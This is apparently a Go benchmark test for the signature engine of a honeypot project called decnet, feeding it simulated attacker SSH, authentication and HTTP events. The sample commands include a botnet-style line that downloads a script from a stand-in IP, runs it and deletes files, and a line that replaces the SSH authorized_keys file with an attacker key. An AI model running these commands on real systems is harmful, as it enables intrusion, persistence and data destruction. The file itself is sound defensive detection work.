package signature_test

import (
	"strings"
	"testing"

	"github.com/decnet/decnet/pkg/decnet"
)

// mix is what attackers send, commands above all.
func mix() []decnet.Event {
	var events []decnet.Event
	add := func(service, kind string, fields map[string]string) {
		events = append(events, decnet.Event{ID: "e", Service: service, Kind: kind, Decky: "web-01", Session: "s", Fields: fields})
	}
	for _, line := range []string{
		"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "ls -lh $(which ls)", "cd /srv/www && ls",
		"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "vim notes.txt", "systemctl status nginx",
		"cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa " + strings.Repeat("AAAAB3NzaC1yc2E", 20) + " x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh",
	} {
		add("ssh", decnet.KindCommand, map[string]string{decnet.FieldCommand: line})
	}
	add("ssh", decnet.KindConnect, nil)
	add("ssh", "client", map[string]string{"version": "SSH-2.0-Go", "accepted": "true"})
	add("ssh", decnet.KindAuthAttempt, map[string]string{"principal": "root", "secret_printable": "123456", "secret_b64": "MTIzNDU2", "accepted": "false"})
	add("http", decnet.KindRequest, map[string]string{
		"method": "GET", "path": "/cgi-bin/luci", "query": "a=b&c=d", "version": "HTTP/1.1", "user_agent": "Mozilla/5.0 (X11; Linux x86_64)",
		"headers": `[["Host","203.0.113.5"],["User-Agent","Mozilla/5.0 (X11; Linux x86_64)"],["Accept","*/*"]]`, "status": "404",
	})
	return events
}

// BenchmarkAdvance is one event after the other of a mix, and of its sorts alone.
func BenchmarkAdvance(b *testing.B) {
	set := builtin(b)
	all := mix()
	for _, sort := range []string{"all", decnet.KindCommand, decnet.KindConnect, decnet.KindRequest, decnet.KindAuthAttempt} {
		var events []decnet.Event
		for i := range all {
			if sort == "all" || all[i].Kind == sort {
				events = append(events, all[i])
			}
		}
		b.Run(sort, func(b *testing.B) {
			b.ReportAllocs()
			progress := map[string]decnet.SignatureProgress{}
			for i := 0; b.Loop(); i++ {
				set.Advance(progress, &events[i%len(events)])
			}
		})
	}
}
